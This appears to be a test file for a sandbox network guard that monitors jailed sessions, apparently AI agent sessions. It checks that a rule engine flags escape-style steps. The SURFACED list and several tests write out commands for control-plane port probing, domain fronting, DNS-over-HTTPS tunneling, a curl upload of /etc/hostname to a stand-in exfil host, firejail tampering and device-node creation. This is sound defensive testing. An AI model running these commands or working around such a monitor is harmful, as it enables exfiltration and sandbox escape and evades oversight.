"""Issue 21, part 2, live: in `allowlist` mode the first steps of ROME's behaviour are
denied *and* get a rule verdict: a few control-plane ports of one address, fronting by IP
(TLS SNI with a pinned `--resolve`, a forged HTTP Host, an allowed name on another allowed
name's address), DNS over HTTPS/TLS, an upload toward a host not allowed. Their benign
lookalikes (the allowed host itself, one refused Redis port, a POST to an allowed host)
stay quiet.

A real session network (netns, nftables, gateway, resolver) against the conftest's fake
internet; the events it records are judged by an engine that knows the same allowlist.
Every address is TEST-NET (203.0.113.0/24, 198.51.100.0/24): the targets with no host
behind them (.77-.84) are denied before the gateway dials anything. Then one real jailed
session for the whole record: verdicts, `sandbox show`, the episode report.
"""

from __future__ import annotations

import secrets
import socket
import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox import Sandbox, Store, network
from sandbox.events import ListEmit
from sandbox.guard import CommandText, build_engine
from sandbox.jail.profile import NetworkSection
from tests.helpers import make_workspace, sandbox_cli, wait_for

from .conftest import DNS_IP, GOOD_IP, SSH_IP, FakeInternet
from .conftest import NetBox as Box

pytestmark = pytest.mark.root

SECTION = NetworkSection(mode="allowlist", allow=["good.test:443,80", "ssh.test:22,443"],
                         upstream_dns=DNS_IP)
ENGINE = build_engine(network=SECTION)
# Addresses nobody resolved and nothing serves: denied by the gateway's pre-check.
PROBED, REDIS, FRONT, DOH, EXFIL = ("203.0.113.77", "203.0.113.78", "203.0.113.79",
                                    "203.0.113.80", "203.0.113.81")
PROBED_LIVE = "203.0.113.84"  # the jailed session's own probe target


@pytest.fixture(scope="module")
def box(fake_internet: FakeInternet) -> Iterator[Box]:
    emit = ListEmit()
    handle = network.setup("t" + secrets.token_hex(4), SECTION, emit)
    try:
        b = Box(handle, emit, fake_internet)
        for name in ("good.test", "ssh.test"):
            assert b.resolve(name).a.rdata is not None
        yield b
    finally:
        handle.teardown()


def rules_since(box: Box, mark: int) -> dict[str, list[dict[str, Any]]]:
    """Rule id -> evidence of each verdict, over the events recorded after `mark`."""
    out: dict[str, list[dict[str, Any]]] = {}
    for event in box.emit.events[mark:]:
        for v in ENGINE.evaluate_event(event):
            assert not v.stops, (v.rule_id, v.action)  # flags, never a block or kill
            out.setdefault(v.rule_id, []).append(v.evidence)
    return out


def tls(box: Box, ip: str, sni: str, port: int = 443) -> bytes | str:
    """A TLS GET with this SNI to ip:port: the reply, or the error's class name."""
    ctx = ssl.create_default_context(cafile=str(box.inet.cert))

    def go() -> bytes | str:
        try:
            with socket.create_connection((ip, port), timeout=5) as raw, \
                    ctx.wrap_socket(raw, server_hostname=sni) as s:
                s.sendall(b"GET / HTTP/1.1\r\nHost: " + sni.encode() + b"\r\n\r\n")
                return s.recv(4096)
        except (OSError, ssl.SSLError) as e:
            return type(e).__name__

    return box.run(go)  # type: ignore[no-any-return]


def curl(box: Box, *args: str) -> int:
    r = box.exec("curl", "-sS", "--noproxy", "*", "--max-time", "5", "--cacert",
                 str(box.inet.cert), *args, timeout=20)
    return r.returncode


def test_control_plane_probe_is_flagged_at_its_second_port(box: Box) -> None:
    m = box.mark()
    # Benign lookalikes first: one connection to Redis on the allowed host (denied: no
    # name on the wire), and a client retrying one refused Redis port.
    box.exchange(GOOD_IP, 6379, b"*1\r\n$4\r\nPING\r\n")
    for _ in range(3):
        box.exchange(REDIS, 6379, b"*1\r\n$4\r\nPING\r\n")
    box.since(m, "net.attempt", count=4)
    assert "recon.control_plane" not in rules_since(box, m)
    assert not [e for e in box.emit.events[m:] if e["kind"] == "net.scan"]
    # The probe: the Docker API, then the kubelet, of one address.
    m = box.mark()
    for port in (2375, 10250):
        box.exchange(PROBED, port, b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n")
    [scan] = box.since(m, "net.scan")
    assert scan["kind"] == "control_plane" and scan["sample_hosts"] == [PROBED]
    assert scan["ports"] == [2375, 10250] and scan["services"] == ["docker", "kubelet"]
    [evidence] = rules_since(box, m)["recon.control_plane"]
    assert evidence["hosts"] == [PROBED]
    # Once per address and window: the apiserver next does not repeat it.
    m = box.mark()
    box.exchange(PROBED, 6443, b"\x16\x03\x01")
    box.since(m, "net.attempt")
    assert not box.since(m, "net.scan", timeout=0.3)


def test_fronting_by_ip_is_flagged(box: Box, tmp_path: Path) -> None:
    m = box.mark()
    # Benign: the allowed name on its own address, over TLS and HTTP; curl --resolve
    # pinned to the address the resolver gave.
    assert isinstance(tls(box, GOOD_IP, "good.test"), bytes)
    box.exchange(GOOD_IP, 80, b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n")
    assert curl(box, "--resolve", f"good.test:443:{GOOD_IP}", "https://good.test/") == 0
    box.since(m, "net.attempt", count=3)
    assert "tunnels.fronting_mismatch" not in rules_since(box, m)
    # Fronting: SNI pinned with --resolve to another address; a forged Host header; the
    # allowed name sent to the address of another allowed name.
    m, ssh_hits = box.mark(), box.inet.hits.get("ssh", 0)
    assert curl(box, "--resolve", f"good.test:443:{FRONT}", "https://good.test/") != 0
    box.exchange(FRONT, 80, b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n")
    assert tls(box, SSH_IP, "good.test") in ("ConnectionResetError", "SSLError",
                                             "SSLEOFError", "SSLZeroReturnError")
    attempts = box.since(m, "net.attempt", count=3)
    assert len(attempts) == 3 and all(a["verdict"] == "deny" for a in attempts)
    assert all(a["reason"].startswith("domain fronting: ") and "not resolved" in a["reason"]
               for a in attempts), [a["reason"] for a in attempts]
    hits = rules_since(box, m)["tunnels.fronting_mismatch"]
    assert {(h["dst_ip"], h["dst_port"]) for h in hits} == {(FRONT, 443), (FRONT, 80),
                                                           (SSH_IP, 443)}
    assert box.inet.hits.get("ssh", 0) == ssh_hits  # nothing was relayed


def test_doh_to_a_resolver_not_allowed_is_flagged(box: Box) -> None:
    m = box.mark()
    assert isinstance(tls(box, GOOD_IP, "good.test"), bytes)  # benign HTTPS
    box.since(m, "net.attempt")
    assert "tunnels.doh_foreign" not in rules_since(box, m)
    m = box.mark()
    # The lookup of the DoH name (NXDOMAIN: not allowed), DoH pinned with --resolve,
    # DoH in plain HTTP, DNS over TLS.
    assert box.resolve("dns.google").header.rcode == 3
    query = "AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB"
    assert curl(box, "--resolve", f"dns.google:443:{DOH}",
                f"https://dns.google/dns-query?dns={query}") != 0
    box.exchange(DOH, 80, b"POST /dns-query HTTP/1.1\r\nHost: doh.test\r\n"
                          b"Content-Type: application/dns-message\r\nContent-Length: 0\r\n\r\n")
    box.exchange(DOH, 853, b"\x16\x03\x01\x00\x05hello")
    box.since(m, "net.attempt", count=3)
    hits = rules_since(box, m)["tunnels.doh_foreign"]
    kinds = {(h["type"], h.get("name"), h.get("dst_port")) for h in hits}
    assert ("dns", "dns.google", None) in kinds
    assert ("network", "dns.google", 443) in kinds
    assert ("network", "doh.test", 80) in kinds
    assert any(k[0] == "network" and k[2] == 853 for k in kinds), kinds


def test_upload_to_a_host_not_allowed_is_flagged(box: Box, tmp_path: Path) -> None:
    data = tmp_path / "report.txt"
    data.write_text("nothing secret\n")
    m = box.mark()
    # Benign: an upload to the allowed host (relayed; nothing listens there, so it ends
    # at once) and its command line.
    ok = ["-X", "POST", "--data-binary", f"@{data}", "http://good.test/up"]
    curl(box, *ok)
    [attempt] = box.since(m, "net.attempt")
    assert attempt["verdict"] == "allow" and attempt["first_bytes"].startswith("POST ")
    assert "secrets.upload_denied" not in rules_since(box, m)
    assert not ENGINE.evaluate(CommandText("curl " + " ".join(ok)))
    # The upload to a name not on the allowlist, pinned with --resolve so it reaches the
    # gateway (without it the lookup alone fails), and the same request by hand.
    m = box.mark()
    bad = ["-X", "POST", "--data-binary", f"@{data}", "--resolve", f"exfil.test:80:{EXFIL}",
           "http://exfil.test/up"]
    assert curl(box, *bad) != 0
    box.exchange(EXFIL, 80, b"PUT /x HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: 2\r\n\r\nhi")
    attempts = box.since(m, "net.attempt", count=2)
    assert all(a["verdict"] == "deny" for a in attempts)
    hits = rules_since(box, m)["secrets.upload_denied"]
    assert len(hits) == 2 and {h["name"] for h in hits} == {"exfil.test"}
    # The command text says it before a byte leaves (HTTPS hides the method on the wire).
    text = "curl -X POST --data-binary @report.txt https://exfil.test/up"
    [v] = [v for v in ENGINE.evaluate(CommandText(text)) if v.rule_id == "secrets.upload_denied"]
    assert "exfil.test:443" in v.message


# -- one real jailed session: the verdicts reach the record, show and the report -----------

PROFILE = f'''extends = "default"
[network]
mode = "allowlist"
allow = ["good.test:443"]
upstream_dns = "{DNS_IP}"
'''
SURFACED = [
    (f"curl -sk --noproxy '*' -m 5 --resolve good.test:443:{FRONT} https://good.test/; echo rc=$?",
     "tunnels.fronting_mismatch"),
    (f"curl -sk --noproxy '*' -m 5 --resolve dns.google:443:{DOH} "
     "'https://dns.google/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB'; echo rc=$?",
     "tunnels.doh_foreign"),
    ("curl -s --noproxy '*' -m 5 -X POST --data-binary @/etc/hostname -H 'Host: exfil.test' "
     f"http://{EXFIL}/up; echo rc=$?", "secrets.upload_denied"),
    (f"curl -s --noproxy '*' -m 3 http://{PROBED_LIVE}:2375/version; "
     f"curl -s --noproxy '*' -m 3 -k https://{PROBED_LIVE}:10250/pods; echo rc=$?",
     "recon.control_plane"),
    ("touch /run/firejail/sandbox-guard-test 2>/dev/null; echo rc=$?", "tamper.firejail_files"),
    ("mknod /tmp/sandbox-guard-nvidia0 c 195 0 2>/dev/null; echo rc=$?", "escape.mknod"),
]
LOOKALIKES = [
    "curl -sk --noproxy '*' -m 10 https://good.test/",
    "curl -sk --noproxy '*' -m 10 -X POST --data-binary @/etc/hostname https://good.test/up",
    "ls /run/firejail >/dev/null 2>&1; echo rc=$?",
    "cat /run/firejail/mnt/fslogger 2>/dev/null | head -1; echo rc=$?",
    "mknod /tmp/sandbox-guard-fifo p; echo rc=$?",
    f"curl -s --noproxy '*' -m 3 http://{REDIS}:6379/; echo rc=$?",
]
NEW = {rule for _, rule in SURFACED}


def test_first_steps_surface_in_a_real_session(test_dir: Path,
                                               fake_internet: FakeInternet) -> None:
    prof = test_dir / "allow.toml"
    prof.write_text(PROFILE)

    def verdicts(sid: str) -> list[dict[str, Any]]:
        return Store().events(sid, kinds=("guard.verdict",))

    with Sandbox(profile=str(prof), workdir=make_workspace(test_dir / "w")) as box:
        sid = box.id
        for cmd in LOOKALIKES:
            r = box.run(cmd, timeout=30)
            assert not r.blocked and r.exit_code != 126, (cmd, r.output)
        ok = box.run(LOOKALIKES[0], timeout=30)
        assert "hello from the fake internet" in ok.output, ok.output
        assert wait_for(lambda: Store().count_events(sid, "net.attempt") >= 4, 5)
        quiet = {e["rule"] for e in verdicts(sid)} & NEW
        assert not quiet, quiet
        for cmd, rule in SURFACED:
            r = box.run(cmd, timeout=30)
            assert not r.blocked and "rc=" in r.output, (cmd, r.output)  # flagged, not refused
            assert wait_for(lambda rule=rule: rule in {e["rule"] for e in verdicts(sid)}, 10), \
                (cmd, rule, {e["rule"] for e in verdicts(sid)})
        assert box.run("echo alive").output == "alive\n"
    mine = [e for e in verdicts(sid) if e["rule"] in NEW]
    assert all(e["action"] == "flag" and e["severity"] == "alert" for e in mine)
    assert not [e for e in verdicts(sid) if e["action"] in ("block", "kill")]
    assert Store().get_session(sid)["n_alerts"] >= len(NEW)
    show = sandbox_cli("show", sid).stdout
    for rule in NEW:
        assert rule in show, rule
    from sandbox.record.export import report

    assert {v["rule"] for v in report(Store(), sid)["violations"]} >= NEW
